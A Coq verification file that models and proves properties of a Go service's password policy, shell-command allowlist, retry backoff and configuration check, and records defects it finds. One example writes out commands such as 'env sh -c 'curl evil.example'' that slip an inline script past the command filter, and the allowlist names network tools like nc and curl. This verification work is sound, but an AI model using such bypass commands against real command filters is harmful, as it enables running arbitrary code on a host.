(* ===== verification/Policy.v ===== *)
(** * Policy: passwords, container commands, retries and the configuration check

    Small pure decisions: [internal/auth/password.go], [internal/core/command_safety.go],
    [internal/core/retry.go] and [internal/core/validate.go]. *)

From S2P Require Import Prelude GoStrings.
#[local] Open Scope Z_scope.

Module Password.

(** src/internal/auth/password.go:30-74 commonPasswords *)
Definition commonPasswords : list string :=
  ["123456"; "password"; "12345678"; "1234"; "qwerty"; "12345"; "dragon"; "pussy"; "baseball"; "football";
   "letmein"; "monkey"; "696969"; "abc123"; "mustang"; "michael"; "shadow"; "master"; "jordan"; "harley";
   "1234567"; "fuckme"; "hunter"; "fuckyou"; "trustno1"; "ranger"; "buster"; "thomas"; "jordan23"; "superman";
   "batman"; "iloveyou"; "sunshine"; "ashley"; "bailey"; "admin"; "admin123"; "root"; "root123"; "deploy";
   "deploy123"; "monster"; "monster123"].

Inductive weakness := TooShort | MissingClass | TooCommon.

Definition code (c : ascii) : Z := Z.of_nat (Ascii.nat_of_ascii c).
Definition between (lo hi : Z) (c : ascii) : bool := (lo <=? code c) && (code c <=? hi).
Definition is_upper : ascii → bool := between 65 90.
Definition is_lower : ascii → bool := between 97 122.
Definition is_num : ascii → bool := between 48 57.
Definition is_special (c : ascii) : bool :=
  between 33 47 c || between 58 64 c || between 91 96 c || between 123 126 c.

(** The loop over the characters; a character outside ASCII is in none of the classes,
    and neither are the bytes that encode it.
    src/internal/auth/password.go:87-103 ValidatePasswordStrength.classes *)
Definition classes (l : list ascii) : bool * bool * bool * bool :=
  foldl (λ '(u, lo, d, s) c,
    if is_upper c then (true, lo, d, s)
    else if is_lower c then (u, true, d, s)
    else if is_num c then (u, lo, true, s)
    else if is_special c then (u, lo, d, true)
    else (u, lo, d, s)) (false, false, false, false) l.

(** src/internal/auth/password.go:79-115 ValidatePasswordStrength *)
Definition ValidatePasswordStrength (password : string) (minLength : Z) : result weakness unit :=
  let minLength := if minLength =? 0 then 12 else minLength in
  if Z.of_nat (slen password) <? minLength then Err TooShort
  else
    let '(u, lo, d, s) := classes (bytes password) in
    if negb u || negb lo || negb d || negb s then Err MissingClass
    else if decide (ToLower password ∈ commonPasswords) then Err TooCommon
    else Ok tt.

Definition has (f : ascii → bool) (p : string) : Prop := ∃ c, c ∈ bytes p ∧ f c = true.

Lemma classes_spec l : ∀ u lo d s,
  foldl (λ '(u, lo, d, s) c,
    if is_upper c then (true, lo, d, s) else if is_lower c then (u, true, d, s)
    else if is_num c then (u, lo, true, s) else if is_special c then (u, lo, d, true)
    else (u, lo, d, s)) (u, lo, d, s) l
  = (u || existsb is_upper l, lo || existsb is_lower l, d || existsb is_num l, s || existsb is_special l).
Proof.
  induction l as [|c l IH]; intros u lo d s; cbn [foldl existsb]; [by rewrite !orb_false_r|].
  assert (is_upper c = true → is_lower c = false ∧ is_num c = false ∧ is_special c = false) as H1.
  { unfold is_upper, is_lower, is_num, is_special, between. intros. bools. lia. }
  assert (is_lower c = true → is_num c = false ∧ is_special c = false) as H2.
  { unfold is_lower, is_num, is_special, between. intros. bools. lia. }
  assert (is_num c = true → is_special c = false) as H3.
  { unfold is_num, is_special, between. intros. bools. lia. }
  destruct (is_upper c), (is_lower c), (is_num c), (is_special c); rewrite IH; cbn;
    rewrite ?orb_true_r; try (naive_solver congruence); f_equal.
Qed.

Lemma special_case_free c : is_special c = true → case_free c.
Proof.
  unfold is_special, between, case_free, ascii_lower, code. intros H.
  bools. destruct (decide _) as [?|?]; [lia|]. split; [done|lia].
Qed.

Lemma common_have_no_special : Forall (λ p, existsb is_special (bytes p) = false) commonPasswords.
Proof. apply (bool_decide_unpack _). vm_compute. exact I. Qed.

Lemma lowered_keeps_special p : existsb is_special (bytes p) = true → existsb is_special (bytes (ToLower p)) = true.
Proof.
  rewrite !existsb_exists. intros (c & Hc & Hs). apply list_elem_of_In, list_elem_of_split in Hc as (a & b & E).
  exists c. split; [|done]. rewrite <-(str_bytes p), E, ToLower_middle by by apply special_case_free.
  apply in_elt.
Qed.

(** The password policy, exactly: a password is accepted if and only if it has the minimum
    number of bytes (twelve, when none is configured) and an ASCII character of each of
    the four classes.  The common-password list rejects nothing: every password that gets
    that far contains a special character, and no entry of the list does. *)
Theorem password_accepted_iff p minLength :
  (ValidatePasswordStrength p minLength = Ok tt ↔
     (if minLength =? 0 then 12 else minLength) ≤ Z.of_nat (slen p) ∧
     has is_upper p ∧ has is_lower p ∧ has is_num p ∧ has is_special p) ∧
  ValidatePasswordStrength p minLength ≠ Err TooCommon.
Proof.
  assert (∀ f, has f p ↔ existsb f (bytes p) = true) as Hhas.
  { intros f. unfold has. rewrite existsb_exists. setoid_rewrite list_elem_of_In. done. }
  assert (existsb is_special (bytes p) = true → ToLower p ∉ commonPasswords) as Hcommon.
  { intros Hs%lowered_keeps_special Hin. pose proof common_have_no_special as Hn.
    rewrite Forall_forall in Hn. apply Hn in Hin. congruence. }
  rewrite !Hhas. unfold ValidatePasswordStrength. cbv zeta.
  generalize (if minLength =? 0 then 12 else minLength); intros m.
  destruct (Z.ltb_spec (Z.of_nat (slen p)) m); [split; [split; [done|lia]|done]|].
  unfold classes. rewrite classes_spec. cbn [orb].
  destruct (existsb is_upper (bytes p)), (existsb is_lower (bytes p)), (existsb is_num (bytes p)),
    (existsb is_special (bytes p)); cbn; try (split; [split; [done|intuition congruence]|done]).
  rewrite decide_False by auto. split; [split; [done|done]|done].
Qed.

End Password.

Module Command.

(** src/internal/core/command_safety.go:8-36 allowedExecCommands *)
Definition allowedExecCommands : list string :=
  ["ls"; "ll"; "la"; "dir"; "find"; "stat";
   "cat"; "head"; "tail"; "grep"; "egrep"; "awk";
   "sed"; "cut"; "sort"; "uniq"; "wc"; "tr";
   "base64";
   "pwd"; "cd"; "echo"; "printf"; "env"; "printenv";
   "id"; "whoami"; "hostname"; "uname"; "uptime";
   "date";
   "ps"; "top"; "htop"; "kill"; "pkill"; "killall";
   "sleep"; "watch";
   "ping"; "ping6"; "curl"; "wget"; "nc"; "netcat";
   "ssh"; "scp"; "rsync"; "dig"; "nslookup"; "host";
   "df"; "du"; "mount"; "umount"; "ln"; "mkdir";
   "touch"; "file"; "tar"; "gzip"; "gunzip"; "zip";
   "unzip";
   "apt"; "apt-get"; "yum"; "dnf"; "apk"; "pacman";
   "sh"; "bash"; "zsh"; "fish"; "python"; "python3";
   "node"; "ruby"; "perl"; "php"; "lua";
   "vi"; "vim"; "nano"; "emacs"; "ed";
   "true"; "false"; "yes"; "seq"; "expr"; "test"].

(** src/internal/core/command_safety.go:38-50 blockedExecCommandFlags *)
Definition blockedExecCommandFlags (base : string) : list string :=
  if decide (base ∈ ["sh"; "bash"; "zsh"]) then ["-c"; "-lc"]
  else if decide (base ∈ ["fish"; "python"; "python3"]) then ["-c"]
  else if decide (base = "node") then ["-e"; "--eval"]
  else if decide (base ∈ ["ruby"; "perl"; "lua"]) then ["-e"]
  else if decide (base = "php") then ["-r"; "-B"; "-R"; "-E"]
  else [].

(** [WriteRune] of a byte taken as a code point: a byte from 128 on becomes two. *)
Definition rune_of_byte (c : ascii) : list ascii :=
  let n := Ascii.nat_of_ascii c in
  if decide (n < 128)%nat then [c] else [byte (192 + n / 64); byte (128 + n mod 64)].

Record scan := Scan { tokens : list (list ascii); current : list ascii; inQuote : option ascii }.

Definition sq : ascii := byte 39.
Definition dq : ascii := byte 34.
Definition blanks : list ascii := [byte 32; byte 9; byte 10; byte 13].

Definition flush (s : scan) : scan :=
  if decide (current s = []) then s else Scan (tokens s ++ [current s]) [] (inQuote s).

(** One character of the loop.
    src/internal/core/command_safety.go:58-79 SplitCommand.loop *)
Definition scan_byte (s : scan) (ch : ascii) : scan :=
  match inQuote s with
  | Some q =>
      if decide (ch = q) then Scan (tokens s) (current s) None
      else Scan (tokens s) (current s ++ rune_of_byte ch) (Some q)
  | None =>
      if decide (ch = sq ∨ ch = dq) then Scan (tokens s) (current s) (Some ch)
      else if decide (ch ∈ blanks) then flush s
      else Scan (tokens s) (current s ++ rune_of_byte ch) None
  end.

(** src/internal/core/command_safety.go:54-87 SplitCommand *)
Definition SplitCommand (cmd : string) : list string :=
  let s := flush (foldl scan_byte (Scan [] [] None) (bytes cmd)) in
  match tokens s with [] => ["/bin/true"] | ts => str <$> ts end.

(** The command name without its directory, in lower case.
    src/internal/core/command_safety.go:99-103 CommandTokensSafe.base *)
Definition base_name (t : string) : string :=
  ToLower (match last_index "/" (bytes t) with
           | Some i => str (drop (i + 1) (bytes t))
           | None => t
           end).

Definition operators : list string := ["&&"; "||"; "|"; ";"; "$("; "`"].

(** src/internal/core/command_safety.go:95-121 CommandTokensSafe *)
Definition CommandTokensSafe (tokens : list string) : bool :=
  match tokens with
  | [] => false
  | t :: args =>
      let base := base_name t in
      if negb (bool_decide (base ∈ allowedExecCommands)) then false
      else if existsb (λ a, bool_decide (a ∈ blockedExecCommandFlags base)) args then false
      else negb (existsb (Contains (ToLower (Join tokens " "))) operators)
  end.

(** src/internal/core/command_safety.go:90-92 CommandSafe *)
Definition CommandSafe (cmd : string) : bool := CommandTokensSafe (SplitCommand cmd).

(** ** Splitting reads back quoted words *)

Definition quote (t : string) : string := str (sq :: bytes t ++ [sq]).

(** Words that can be quoted: ASCII, not empty, without the quote itself. *)
Definition quotable (t : string) : Prop :=
  t ≠ "" ∧ Forall (λ c, Ascii.nat_of_ascii c < 128)%nat (bytes t) ∧ sq ∉ bytes t.
#[export] Instance quotable_dec t : Decision (quotable t).
Proof. unfold quotable. apply _. Defined.

Lemma scan_quoted l : ∀ ts cur, Forall (λ c, Ascii.nat_of_ascii c < 128)%nat l → sq ∉ l →
  foldl scan_byte (Scan ts cur (Some sq)) l = Scan ts (cur ++ l) (Some sq).
Proof.
  induction l as [|c l IH]; intros ts cur Hl Hq; [by rewrite app_nil_r|].
  apply Forall_cons in Hl as [Hc Hl]. apply not_elem_of_cons in Hq as [Hne Hq].
  cbn [foldl scan_byte inQuote tokens current]. rewrite decide_False by done. unfold rune_of_byte.
  rewrite decide_True by done. rewrite IH by done. by rewrite <-app_assoc.
Qed.

Lemma scan_word ts cur t : quotable t →
  foldl scan_byte (Scan ts cur None) (bytes (quote t)) = Scan ts (cur ++ bytes t) None.
Proof.
  intros (_ & Ha & Hq). unfold quote. rewrite bytes_str. cbn [foldl scan_byte inQuote tokens current].
  rewrite decide_True by by left. rewrite foldl_app, scan_quoted by done.
  cbn [foldl scan_byte inQuote tokens current]. by rewrite decide_True.
Qed.

Lemma scan_words ts : ∀ acc, Forall quotable ts → ts ≠ [] →
  tokens (flush (foldl scan_byte (Scan acc [] None) (bytes (Join (quote <$> ts) " ")))) = acc ++ (bytes <$> ts).
Proof.
  induction ts as [|t ts IH]; intros acc Ht Hne; [done|]. apply Forall_cons in Ht as [Hq Ht].
  assert (bytes t ≠ []) as Hb by (intros H; apply bytes_nil in H; by destruct Hq).
  destruct ts as [|u ts].
  - change (Join (quote <$> [t]) " ") with (quote t). rewrite scan_word by done. cbn [app].
    unfold flush; cbn [current tokens]. by rewrite decide_False by done.
  - change (Join (quote <$> t :: u :: ts) " ") with (quote t +:+ " " +:+ Join (quote <$> u :: ts) " ").
    rewrite !bytes_app, foldl_app, scan_word, foldl_app by done. cbn [app].
    change (foldl scan_byte (Scan acc (bytes t) None) (bytes " ")) with (flush (Scan acc (bytes t) None)).
    unfold flush at 2; cbn [current tokens inQuote]. rewrite decide_False by done.
    rewrite IH by done. cbn. by rewrite <-app_assoc.
Qed.

(** Splitting inverts quoting: for ASCII words, none of them empty or holding a single quote, the
    command line of the quoted words splits into exactly those words, whatever blanks,
    double quotes or shell operators they contain. *)
Theorem split_reads_quoted ts :
  Forall quotable ts → ts ≠ [] → SplitCommand (Join (quote <$> ts) " ") = ts.
Proof.
  intros Ht Hne. unfold SplitCommand. cbv zeta. rewrite scan_words by done. cbn [app].
  destruct ts as [|t ts]; [done|]. cbn. rewrite str_bytes. f_equal.
  rewrite <-list_fmap_compose. rewrite <-(list_fmap_id ts) at 2. apply list_fmap_ext. intros ???. cbn. apply str_bytes.
Qed.

Lemma split_reads_quoted_witness :
  SplitCommand (Join (quote <$> ["grep"; "a && b"; "my file"]) " ") = ["grep"; "a && b"; "my file"].
Proof. apply (split_reads_quoted ["grep"; "a && b"; "my file"]); [apply (bool_decide_unpack _); vm_compute; exact I|done]. Defined.

(** Text outside ASCII is not read back: each of its bytes is written as a code point. *)
Example split_garbles_utf8 :
  SplitCommand (str [byte 195; byte 169]) = [str [byte 195; byte 131; byte 194; byte 169]].
Proof. reflexivity. Qed.

(** ** What an accepted command does not contain *)

Lemma Join_contains t ts sep : t ∈ ts → ∃ a b, bytes (Join ts sep) = a ++ bytes t ++ b.
Proof.
  induction ts as [|u ts IH]; intros Ht; [by apply elem_of_nil in Ht|].
  destruct ts as [|v ts].
  - apply list_elem_of_singleton in Ht as ->. exists [], []. cbn. by rewrite app_nil_r.
  - change (Join (u :: v :: ts) sep) with (u +:+ sep +:+ Join (v :: ts) sep). rewrite !bytes_app.
    apply elem_of_cons in Ht as [->|Ht]; [by exists [], (bytes sep ++ bytes (Join (v :: ts) sep))|].
    destruct (IH Ht) as (a & b & E). exists (bytes u ++ bytes sep ++ a), b. rewrite E. by rewrite <-!app_assoc.
Qed.

Lemma ToLower_prefix op b : Forall case_free op →
  bytes (ToLower (str (op ++ b))) = op ++ bytes (ToLower (str b)).
Proof.
  induction 1 as [|c op Hc _ IH]; [done|].
  change ((c :: op) ++ b) with ([] ++ c :: (op ++ b)). rewrite ToLower_middle by done. cbn [app]. by rewrite IH.
Qed.

Lemma ToLower_contains s op : Forall case_free (bytes op) → Contains s op = true → Contains (ToLower s) op = true.
Proof.
  rewrite !Contains_spec. intros Hop (a & b & E). rewrite <-(str_bytes s), E.
  destruct (bytes op) as [|c o] eqn:Eo; [by exists [], (bytes (ToLower (str (a ++ [] ++ b))))|].
  apply Forall_cons in Hop as [Hc Ho]. cbn [app]. rewrite ToLower_middle by done.
  rewrite ToLower_prefix by done. by eexists _, _.
Qed.

Lemma operators_case_free : Forall (λ op, Forall case_free (bytes op)) operators.
Proof. apply (bool_decide_unpack _). vm_compute. exact I. Qed.

(** What the command policy guarantees: an accepted command names a permitted program, passes
    it none of the flags blocked for that program, and no word of it contains a pipe, a
    semicolon, a back quote, a double ampersand or a command substitution. *)
Theorem accepted_command_is_clean (ts : list string) :
  CommandTokensSafe ts = true →
  ∃ t args, ts = t :: args ∧ base_name t ∈ allowedExecCommands ∧
    (∀ a, a ∈ args → a ∉ blockedExecCommandFlags (base_name t)) ∧
    ∀ u op, u ∈ ts → op ∈ operators → Contains u op = false.
Proof.
  destruct ts as [|t args]; [done|]. cbn [CommandTokensSafe]. cbv zeta.
  destruct (bool_decide _) eqn:Hb; [|done]. apply bool_decide_eq_true in Hb. cbn [negb].
  destruct (existsb _ args) eqn:Hf; [done|]. rewrite negb_true_iff. intros Ho.
  exists t, args. split; [done|]. split; [done|]. split.
  - intros a Ha Hin. apply not_true_iff_false in Hf. apply Hf, existsb_exists.
    exists a. rewrite <-list_elem_of_In, bool_decide_eq_true. done.
  - intros u op Hu Hop. apply not_true_iff_false. intros Hc. apply not_true_iff_false in Ho. apply Ho, existsb_exists.
    exists op. rewrite <-list_elem_of_In. split; [done|].
    apply ToLower_contains; [pose proof operators_case_free as H; rewrite Forall_forall in H; auto|].
    apply Contains_spec in Hc as (a & b & E). destruct (Join_contains u (t :: args) " " Hu) as (a' & b' & E').
    apply Contains_spec. exists (a' ++ a), (b ++ b'). rewrite E', E. by rewrite <-!app_assoc.
Qed.

Lemma accepted_command_is_clean_witness : Contains "README.md" "|" = false.
Proof.
  destruct (accepted_command_is_clean ["/bin/cat"; "README.md"]) as (t & args & E & _ & _ & H); [by vm_compute|].
  apply H; apply (bool_decide_unpack _); vm_compute; exact I.
Defined.

(** The blocked flags are blocked by their exact spelling, and for the first word only:
    an inline shell script runs through [env], and through a bundle of short flags. *)
Example inline_script_accepted :
  (CommandSafe "sh -c 'curl evil.example'", CommandSafe "env sh -c 'curl evil.example'",
   CommandSafe "bash -xc 'curl evil.example'") = (false, true, true).
Proof. vm_compute. reflexivity. Qed.

End Command.

Module Retry.

(** What the operation returns at an attempt: success, a transient error, or an error
    wrapped by [ErrNoRetry]. *)
Inductive attempt (E : Type) := Done | Transient (e : E) | NoRetry (e : E).
Arguments Done {E}. Arguments Transient {E} e. Arguments NoRetry {E} e.

(** src/internal/core/retry.go:22-27 RetryConfig *)
Record RetryConfig := MkRetryConfig { MaxAttempts : Z; InitialDelay : duration; MaxDelay : duration }.

(** src/internal/core/retry.go:30-36 DefaultRetryConfig *)
Definition DefaultRetryConfig : RetryConfig := MkRetryConfig 3 (200 * Millisecond) (5 * Second).

(** What [Retry] returns: nothing, the unwrapped error, the context's error, or the last
    error with the number of attempts. *)
Inductive outcome (E : Type) := Succeeded | Stopped (e : E) | Cancelled | Exhausted (attempts : Z) (last : E).
Arguments Succeeded {E}. Arguments Stopped {E} e. Arguments Cancelled {E}. Arguments Exhausted {E} attempts last.

(** [InitialDelay * time.Duration(1<<uint(i))], in 64 bits, and its cap.
    src/internal/core/retry.go:67-70 Retry.delay *)
Definition delay_at (cfg : RetryConfig) (i : nat) : duration :=
  let delay := i64 (InitialDelay cfg * i64 (2 ^ Z.of_nat i)) in
  if MaxDelay cfg <? delay then MaxDelay cfg else delay.

Section retry.
Context {E : Type}.
Variable cfg : RetryConfig.
(** The operation's answer at each attempt, and whether the context ends in the wait
    that follows it. *)
Variable op : nat → attempt E.
Variable cancelled : nat → bool.

(** The attempts from number [i] on, [left] of them after it: the outcome and the
    waits between attempts.
    src/internal/core/retry.go:50-88 Retry.loop *)
Fixpoint retry_from (attempts : Z) (i left : nat) : outcome E * list duration :=
  match op i with
  | Done => (Succeeded, [])
  | NoRetry e => (Stopped e, [])
  | Transient e =>
      match left with
      | O => (Exhausted attempts e, [])
      | S left' =>
          if cancelled i then (Cancelled, [delay_at cfg i])
          else let '(o, ds) := retry_from attempts (S i) left' in (o, delay_at cfg i :: ds)
      end
  end.

(** src/internal/core/retry.go:40-88 Retry *)
Definition Retry : outcome E * list duration :=
  let attempts := if MaxAttempts cfg <=? 0 then 1 else MaxAttempts cfg in
  retry_from attempts 0 (Z.to_nat (attempts - 1)).

Definition transient (i : nat) : Prop := ∃ e, op i = Transient e.

(** The attempts made are the transient failures, each followed by a full wait, and the
    attempt that ends the run. *)
Lemma retry_from_spec attempts left : ∀ i,
  let '(o, ds) := retry_from attempts i left in
  (length ds ≤ left)%nat ∧
  (∀ k d, ds !! k = Some d → d = delay_at cfg (i + k) ∧ transient (i + k)) ∧
  match o with
  | Succeeded => op (i + length ds) = Done
  | Stopped e => op (i + length ds) = NoRetry e
  | Cancelled => ∃ k, length ds = S k ∧ cancelled (i + k) = true
  | Exhausted a e => a = attempts ∧ length ds = left ∧ op (i + length ds) = Transient e
  end.
Proof.
  induction left as [|left IH]; intros i; cbn [retry_from].
  - destruct (op i) eqn:Eo; cbn; rewrite ?Nat.add_0_r; repeat split; done || lia || by intros.
  - destruct (op i) as [|e|e] eqn:Eo; [cbn; rewrite Nat.add_0_r; repeat split; [lia|done..]| |
      cbn; rewrite Nat.add_0_r; repeat split; [lia|done..]].
    destruct (cancelled i) eqn:Ec.
    + cbn. split; [lia|]. split; [|exists 0%nat; by rewrite Nat.add_0_r].
      intros [|k] d; [|done]. intros [= <-]. rewrite Nat.add_0_r. split; [done|by exists e].
    + specialize (IH (S i)). destruct (retry_from attempts (S i) left) as [o ds].
      destruct IH as (Hl & Hd & Ho). cbn [length]. rewrite <-plus_n_Sm. split; [lia|]. split.
      * intros [|k] d; cbn; [|rewrite <-plus_n_Sm; apply Hd].
        intros [= <-]. rewrite Nat.add_0_r. split; [done|by exists e].
      * destruct o as [| | |a l]; [done..| |]; destruct Ho as (k & ? & ?).
        -- exists (S k). split; [lia|]. by rewrite <-plus_n_Sm.
        -- repeat split; [done|lia|done].
Qed.

(** A retried operation runs at least once and at most the configured number of times: every
    wait follows a transient failure and lasts the capped exponential delay of its
    attempt, success and an unwrapped error are those of the attempt after the last wait,
    and the run gives up only when every attempt failed. *)
Theorem retry_runs_to_a_verdict :
  let '(o, ds) := Retry in
  Z.of_nat (length ds) < Z.max 1 (MaxAttempts cfg) ∧
  (∀ k d, ds !! k = Some d → d = delay_at cfg k ∧ transient k) ∧
  match o with
  | Succeeded => op (length ds) = Done
  | Stopped e => op (length ds) = NoRetry e
  | Cancelled => ∃ k, length ds = S k ∧ cancelled k = true
  | Exhausted a e => a = Z.max 1 (MaxAttempts cfg) ∧ Z.of_nat (length ds) = a - 1 ∧ op (length ds) = Transient e
  end.
Proof.
  unfold Retry. assert ((if MaxAttempts cfg <=? 0 then 1 else MaxAttempts cfg) = Z.max 1 (MaxAttempts cfg)) as ->.
  { destruct (Z.leb_spec (MaxAttempts cfg) 0); lia. }
  set (a := Z.max 1 (MaxAttempts cfg)). pose proof (retry_from_spec a (Z.to_nat (a - 1)) 0) as H.
  destruct (retry_from a 0 (Z.to_nat (a - 1))) as [o ds]. destruct H as (Hl & Hd & Ho). cbn [Nat.add] in *.
  split; [lia|]. split; [done|]. destruct o; try done.
  destruct Ho as (-> & Hlen & ?). repeat split; try done. lia.
Qed.
End retry.

(** The delays double from the first one up to the cap, as long as the product fits 64 bits. *)
Lemma delay_doubles cfg i :
  0 ≤ InitialDelay cfg → InitialDelay cfg * 2 ^ Z.of_nat i ≤ max_int64 → (i < 63)%nat →
  delay_at cfg i = Z.min (MaxDelay cfg) (InitialDelay cfg * 2 ^ Z.of_nat i).
Proof.
  intros Hd Hm Hi. unfold delay_at. cbv zeta.
  assert (0 < 2 ^ Z.of_nat i) by (apply Z.pow_pos_nonneg; lia).
  assert (2 ^ Z.of_nat i ≤ 2 ^ 62) by (apply Z.pow_le_mono_r; lia).
  rewrite (i64_id (2 ^ _)) by (split; unfold min_int64, max_int64; lia).
  rewrite i64_id by (split; [unfold min_int64; nia|done]).
  destruct (Z.ltb_spec (MaxDelay cfg) (InitialDelay cfg * 2 ^ Z.of_nat i)); lia.
Qed.

(** Beyond that the product wraps: from the thirty-seventh attempt on the default delays
    are negative or zero, and the loop no longer waits. *)
Example delay_wraps : Z.leb (delay_at DefaultRetryConfig 36) 0 = true ∧ delay_at DefaultRetryConfig 64 = 0.
Proof. vm_compute. done. Qed.

End Retry.

Module Config.

(** The fields of the configuration that are checked.
    src/internal/core/config.go:16-35 Config *)
Record Config := MkConfig {
  Server_Port : Z; Server_SecretKey : string;
  Ingress_HTTPPort : Z; Ingress_HTTPSPort : Z;
  Database_Driver : string; Database_URL : string;
  Registration_Mode : string; Limits_MaxConcurrentBuilds : Z }.

Inductive config_error :=
| InvalidServerPort | InvalidHTTPPort | InvalidHTTPSPort | HTTPPortConflict | HTTPSPortConflict
| SecretTooShort | UnsupportedDriver | MissingURL | InvalidMode | NoBuilds.

Definition bad_port (p : Z) : bool := (p <=? 0) || (65535 <? p).

(** src/internal/core/validate.go:6-51 ValidateConfig *)
Definition ValidateConfig (cfg : Config) : result config_error unit :=
  if bad_port (Server_Port cfg) then Err InvalidServerPort
  else if bad_port (Ingress_HTTPPort cfg) then Err InvalidHTTPPort
  else if bad_port (Ingress_HTTPSPort cfg) then Err InvalidHTTPSPort
  else if Server_Port cfg =? Ingress_HTTPPort cfg then Err HTTPPortConflict
  else if Server_Port cfg =? Ingress_HTTPSPort cfg then Err HTTPSPortConflict
  else if (slen (Server_SecretKey cfg) <? 32)%nat then Err SecretTooShort
  else if negb (bool_decide (Database_Driver cfg = "sqlite")) && negb (bool_decide (Database_Driver cfg = "postgres"))
  then Err UnsupportedDriver
  else if bool_decide (Database_Driver cfg = "postgres") && bool_decide (Database_URL cfg = "") then Err MissingURL
  else if negb (bool_decide (Registration_Mode cfg ∈ ["open"; "invite_only"; "approval"; "disabled"]))
  then Err InvalidMode
  else if Limits_MaxConcurrentBuilds cfg <=? 0 then Err NoBuilds
  else Ok tt.

Definition port (p : Z) : Prop := 1 ≤ p ≤ 65535.

(** The configuration check accepts exactly the runnable configurations; that the two
    ingress ports differ from each other is not part of it. *)
Lemma config_accepted_iff cfg :
  ValidateConfig cfg = Ok tt ↔
    port (Server_Port cfg) ∧ port (Ingress_HTTPPort cfg) ∧ port (Ingress_HTTPSPort cfg) ∧
    Server_Port cfg ≠ Ingress_HTTPPort cfg ∧ Server_Port cfg ≠ Ingress_HTTPSPort cfg ∧
    (32 ≤ slen (Server_SecretKey cfg))%nat ∧
    (Database_Driver cfg = "sqlite" ∨ (Database_Driver cfg = "postgres" ∧ Database_URL cfg ≠ "")) ∧
    Registration_Mode cfg ∈ ["open"; "invite_only"; "approval"; "disabled"] ∧
    0 < Limits_MaxConcurrentBuilds cfg.
Proof.
  unfold ValidateConfig, port.
  assert (∀ p, bad_port p = false ↔ 1 ≤ p ≤ 65535) as Hp by (intros p; unfold bad_port; bools; lia).
  rewrite <-!Hp. repeat (destruct (bad_port _); [split; [done|intuition congruence]|]).
  destruct (Z.eqb_spec (Server_Port cfg) (Ingress_HTTPPort cfg)); [split; [done|intuition congruence]|].
  destruct (Z.eqb_spec (Server_Port cfg) (Ingress_HTTPSPort cfg)); [split; [done|intuition congruence]|].
  destruct (slen (Server_SecretKey cfg) <? 32)%nat eqn:Hs; [|apply Nat.ltb_ge in Hs];
    [apply Nat.ltb_lt in Hs; split; [discriminate|lia]|].
  repeat case_bool_decide; cbn [negb andb]; try (split; [done|intuition congruence]);
    (destruct (Z.leb_spec (Limits_MaxConcurrentBuilds cfg) 0);
      [split; [done|lia] | split; [intros _; repeat (split; [done|]); tauto|done]]).
Qed.

End Config.
